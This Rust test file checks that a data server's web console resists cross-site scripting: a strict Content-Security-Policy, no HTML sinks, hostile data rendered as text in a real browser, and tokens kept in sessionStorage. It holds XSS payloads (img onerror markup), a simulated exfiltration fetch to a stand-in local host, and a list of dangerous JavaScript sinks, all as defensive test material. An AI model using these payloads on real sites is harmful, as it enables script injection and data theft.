//! The console cannot be turned against its users (issue 15, item 4).
//!
//! - The page runs only its own script: `GET /` sends a strict
//!   Content-Security-Policy (no inline script or style, API calls to this
//!   server only, no framing) and no inline code is left in it; a headless
//!   Chromium is shown to enforce it.
//! - Data is text: hostile names and values — HTML in record keys, values and
//!   headers, in SQL column names and in an error message — appear literally
//!   in the live DOM of a real browser, create no element and run nothing.
//!   (Topic and view names cannot hold markup: they are `[A-Za-z0-9._-]`,
//!   which is checked here too.)
//! - With `--auth tokens` the console asks for a token, keeps it in the
//!   tab's `sessionStorage` only (no cookie, no `localStorage`) and sends it
//!   as a bearer token.
#![allow(clippy::unwrap_used)] // Test code: a panic is how a test reports failure.

mod browser;

use std::time::Duration;

use browser::Browser;
use kappa_tests::{assert_error, eventually, json, raw_request, Server};

/// Markup that runs code if it is ever parsed as HTML.
const PAYLOAD: &str = "<img src=x onerror=window.__pwned=1><b>bold</b>";
/// A column name made of markup (a quoted SQL identifier).
const COLUMN: &str = "<i>n</i><img src=x onerror=window.__pwned=2>";

#[test]
fn the_console_page_sends_a_strict_policy_and_has_no_inline_code() {
    let server = Server::start(&[]);
    let page = raw_request(server.addr(), "GET", "/", &[], b"");
    assert_eq!(page.status, 200);
    let header = |name: &str| page.headers.get(name).map(String::as_str).unwrap_or("");
    let csp = header("content-security-policy");
    for directive in [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "connect-src 'self'",
        "img-src 'self' data:",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ] {
        assert!(
            csp.split(';').any(|d| d.trim() == directive),
            "the CSP {csp:?} lacks {directive:?}"
        );
    }
    assert!(!csp.contains("unsafe-"), "{csp}");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("referrer-policy"), "no-referrer");
    assert_eq!(header("x-frame-options"), "DENY");
    assert_eq!(header("cache-control"), "no-cache");

    let html = String::from_utf8(page.body).unwrap();
    let lower = html.to_ascii_lowercase();
    assert!(
        lower.contains(r#"<script src="/console.js""#),
        "the page loads its script: {html}"
    );
    assert!(lower.contains(r#"<link rel="stylesheet" href="/console.css">"#));
    assert_eq!(
        lower.matches("<script").count(),
        1,
        "one script, no inline one"
    );
    assert_eq!(lower.matches("</script>").count(), 1);
    assert!(lower.contains("<script src=\"/console.js\" defer></script>"));
    assert!(!lower.contains("<style"), "no inline style element");
    assert!(!lower.contains(" style="), "no inline style attribute");
    assert!(!has_inline_handler(&lower), "no on…= attribute: {html}");
    assert!(!lower.contains("javascript:"));

    for (path, content_type, must_contain) in [
        (
            "/console.js",
            "text/javascript; charset=utf-8",
            "/v1/topics",
        ),
        ("/console.css", "text/css; charset=utf-8", "font"),
    ] {
        let file = raw_request(server.addr(), "GET", path, &[], b"");
        assert_eq!(file.status, 200, "{path}");
        assert_eq!(file.headers["content-type"], content_type, "{path}");
        assert_eq!(file.headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(file.headers["cache-control"], "no-cache", "{path}");
        let text = String::from_utf8(file.body).unwrap();
        assert!(text.contains(must_contain), "{path}");
        assert!(!text.contains("http://") && !text.contains("https://"));
    }
}

/// Whether `html` has an attribute like ` onclick=`.
fn has_inline_handler(html: &str) -> bool {
    html.match_indices(" on").any(|(i, _)| {
        let rest = &html[i + 3..];
        let name_len = rest.bytes().take_while(|b| b.is_ascii_alphabetic()).count();
        name_len > 0 && rest[name_len..].trim_start().starts_with('=')
    })
}

#[test]
fn the_console_script_uses_no_html_sink() {
    let server = Server::start(&[]);
    let js = raw_request(server.addr(), "GET", "/console.js", &[], b"");
    let js = String::from_utf8(js.body).unwrap();
    // Strip comments: the script's header names the sinks it avoids.
    let code: String = js
        .lines()
        .map(|l| l.split("//").next().unwrap_or(""))
        .collect::<Vec<_>>()
        .join("\n");
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "DOMParser",
        "createContextualFragment",
        "srcdoc",
        "eval(",
        "new Function",
        "setAttribute(\"on",
        "localStorage",
        "document.cookie",
    ] {
        assert!(!code.contains(sink), "console.js uses {sink}");
    }
    // Timers take functions, never code strings.
    for timer in [
        "setTimeout(\"",
        "setInterval(\"",
        "setTimeout('",
        "setInterval('",
    ] {
        assert!(
            !code.contains(timer),
            "console.js passes code text to {timer}"
        );
    }
    assert!(code.contains("textContent"));
    assert!(code.contains("sessionStorage"));
}

#[test]
fn markup_cannot_be_a_topic_or_view_name() {
    let server = Server::start(&[]);
    let (status, body) = server.post_json(
        "/v1/topics",
        &json!({"name": "<img src=x onerror=alert(1)>", "partitions": 1}),
    );
    assert_error(
        "a topic named with markup",
        status,
        &body,
        400,
        "invalid_topic_name",
    );
    let (status, body) = server.sql(
        r#"CREATE STREAM "<b>s</b>" (v VARCHAR) WITH (KAFKA_TOPIC='s', VALUE_FORMAT='JSON', PARTITIONS=1);"#,
    );
    assert_eq!(status, 400, "a stream named with markup: {body}");
}

/// A stream of hostile records and a table whose keys and one column name
/// are markup; the records are produced with hostile headers too.
fn hostile_data(server: &Server) {
    server.sql_ok(&format!(
        "CREATE STREAM hostile (html VARCHAR) WITH (KAFKA_TOPIC='hostile', VALUE_FORMAT='JSON', PARTITIONS=1);
         CREATE TABLE by_html AS SELECT html, COUNT(*) AS \"{COLUMN}\" FROM hostile GROUP BY html;"
    ));
    server.produce(
        "hostile",
        &json!([{
            "key": PAYLOAD,
            "value": {"html": PAYLOAD},
            "headers": {"h": PAYLOAD},
        }]),
    );
    eventually("the table has its row", Duration::from_secs(30), || {
        let rows = server.view_rows("by_html", "");
        (rows["rows"].as_array().map(Vec::len) == Some(1)).then_some(())
    });
}

/// What the page shows of data must never have become markup: no element
/// that data could have made, no script that ran, no dialog.
fn assert_nothing_ran(browser: &Browser, place: &str) {
    assert_eq!(browser.open_dialog(), None, "{place}: a dialog is open");
    let made = browser.execute(
        "return [...document.querySelectorAll('img, b, i, iframe, object, embed, svg')]
                  .map((e) => e.outerHTML);",
        vec![],
    );
    assert_eq!(made, json!([]), "{place}: elements made from data");
    let pwned = browser.execute("return typeof window.__pwned;", vec![]);
    assert_eq!(pwned, json!("undefined"), "{place}: a handler ran");
}

#[test]
fn hostile_names_and_values_are_shown_as_text_in_a_real_browser() {
    let server = Server::start(&[]);
    hostile_data(&server);
    let browser = Browser::start();
    browser.goto(&server.url());
    browser.text_until("#topics", |t| t.contains("hostile"));
    browser.text_until("#views", |t| t.contains("by_html"));

    // View rows: the key and the column name are markup.
    browser.select("#view-pick", "by_html");
    browser.click("#load");
    let rows = browser.text_until("#rows", |t| t.contains(PAYLOAD));
    assert!(
        rows.contains(COLUMN),
        "the column name is shown as text: {rows}"
    );
    assert_nothing_ran(&browser, "view rows");

    // Records: key, value and header as stored.
    browser.select("#topic-pick", "hostile");
    browser.click("#read");
    let records = browser.text_until("#records", |t| t.contains(PAYLOAD));
    let value = json!({"html": PAYLOAD}).to_string();
    assert!(
        records.contains(&value),
        "the value as JSON text: {records}"
    );
    assert!(
        records.contains(&json!({"h": PAYLOAD}).to_string()),
        "{records}"
    );
    assert_nothing_ran(&browser, "records");

    // SQL: an error message naming markup, and a pull query's column.
    browser.goto(&format!("{}/#/sql", server.url()));
    browser.type_into(
        "#sql",
        "SELECT * FROM \"<img src=x onerror=window.__pwned=3>\";",
    );
    browser.click("#run");
    browser.text_until("#sql-result", |t| {
        t.contains("<img src=x onerror=window.__pwned=3>")
    });
    assert_nothing_ran(&browser, "an SQL error");
    browser.type_into("#sql", "SELECT * FROM by_html;");
    browser.click("#run");
    let result = browser.text_until("#sql-result", |t| t.contains(PAYLOAD));
    assert!(result.contains(COLUMN), "{result}");
    assert_nothing_ran(&browser, "a pull query");

    // The literal text is in the DOM as text nodes, not as parsed markup.
    let texts = browser.execute(
        "const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
         let n = 0;
         while (walk.nextNode()) if (walk.currentNode.data.includes(arguments[0])) n++;
         return n;",
        vec![json!(PAYLOAD)],
    );
    assert!(
        texts.as_u64().unwrap_or(0) >= 3,
        "the payload is text in rows, records and the SQL result: {texts}"
    );
}

#[test]
fn the_browser_enforces_the_policy_on_markup_that_got_in() {
    let server = Server::start(&[]);
    let browser = Browser::start();
    browser.goto(&server.url());
    browser.text_until("#status", |t| t == "ready");
    // Even a script that got into the page could not turn strings into
    // markup, script or handlers (Trusted Types refuse them all), nor send
    // what it read anywhere but this server (connect-src 'self').
    let outcome = browser.execute_async(
        "const done = arguments[arguments.length - 1];
         const out = {};
         const violated = new Set();
         const exfilSeen = new Promise((resolve) =>
           document.addEventListener('securitypolicyviolation', (e) => {
             violated.add(e.effectiveDirective);
             if (e.effectiveDirective === 'connect-src') resolve();
           }));
         const attempt = (what, f) => { try { f(); out[what] = 'done'; } catch (e) { out[what] = e.name; } };
         attempt('html', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
         attempt('inner', () => { document.body.innerHTML += '<b>x</b>'; });
         attempt('script', () => {
           const s = document.createElement('script');
           s.textContent = 'window.__pwned = 1';
           document.body.appendChild(s);
         });
         attempt('handler', () => {
           const img = document.createElement('img');
           img.setAttribute('onerror', 'window.__pwned = 2');
           img.src = '/no-such-image';
           document.body.appendChild(img);
         });
         const exfil = fetch('http://127.0.0.1:9/?stolen=1').then(() => 'sent', (e) => e.name);
         Promise.all([exfilSeen, exfil]).then(([, fetched]) => {
           out.violated = [...violated].sort();
           out.fetched = fetched;
           out.pwned = typeof window.__pwned;
           done(out);
         });",
        vec![],
    );
    let want = json!({
        "html": "TypeError",
        "inner": "TypeError",
        "script": "TypeError",
        "handler": "TypeError",
        "violated": ["connect-src", "require-trusted-types-for"],
        "fetched": "TypeError",
        "pwned": "undefined",
    });
    assert_eq!(outcome, want);
    assert_eq!(browser.open_dialog(), None);
    let made = browser.execute("return document.querySelectorAll('b, img').length;", vec![]);
    assert_eq!(made, json!(0));
}

/// The bootstrap token of the auth tests.
const SECRET: &str = "console-safety-bootstrap-0123456789";

#[test]
fn with_tokens_the_console_asks_for_one_and_keeps_it_in_the_tab_only() {
    let server = Server::start_env(&["--auth", "tokens"], &[("KAPPA_BOOTSTRAP_TOKEN", SECRET)]);
    let admin = server.client().with_token(SECRET);
    admin.create_topic(&json!({"name": "guarded", "partitions": 1}));

    let browser = Browser::start();
    browser.goto(&server.url());
    browser.text_until("#auth-prompt", |t| t.contains("needs a token"));
    assert!(browser.shown("#token"));
    browser.until("the token field to have the focus", || {
        (browser.focused_id() == "token").then_some(())
    });
    assert!(!browser.text("#topics").contains("guarded"));

    browser.type_into("#token", SECRET);
    browser.click("#use-token");
    browser.text_until("#topics", |t| t.contains("guarded"));
    let stored = browser.execute(
        "return [sessionStorage.getItem('kappa.token'), localStorage.length, document.cookie];",
        vec![],
    );
    assert_eq!(
        stored,
        json!([SECRET, 0, ""]),
        "kept in sessionStorage only"
    );
    assert!(
        !browser.text("body").contains(SECRET),
        "the token is not shown on the page"
    );

    // Forgetting it clears it, and the console asks again.
    browser.click("#forget-token");
    let left = browser.execute(
        "return [sessionStorage.getItem('kappa.token'),
                 document.querySelectorAll('#topic-pick option').length];",
        vec![],
    );
    assert_eq!(
        left,
        json!([null, 0]),
        "the token and what it read are gone"
    );
    browser.text_until("#auth-prompt", |t| t.contains("needs a token"));
    browser.text_until("#topics", |t| t.contains("401"));

    // A token without the grant: the console shows the server's message
    // naming the grant it lacks.
    let (status, created) = admin.post_json(
        "/v1/tokens",
        &json!({"name": "reader", "grants": ["read:guarded"]}),
    );
    assert_eq!(status, 201, "{created}");
    let reader = created["token"].as_str().expect("a secret");
    browser.type_into("#token", reader);
    browser.click("#use-token");
    browser.text_until("#topics", |t| t.contains("guarded"));
    browser.goto(&format!("{}/#/sql", server.url()));
    browser.type_into("#sql", "DROP TABLE anything;");
    browser.click("#run");
    let refused = browser.text_until("#sql-result", |t| t.contains("403"));
    assert!(
        refused.contains("forbidden") && refused.contains("admin"),
        "the server's message names the missing grant: {refused}"
    );
}
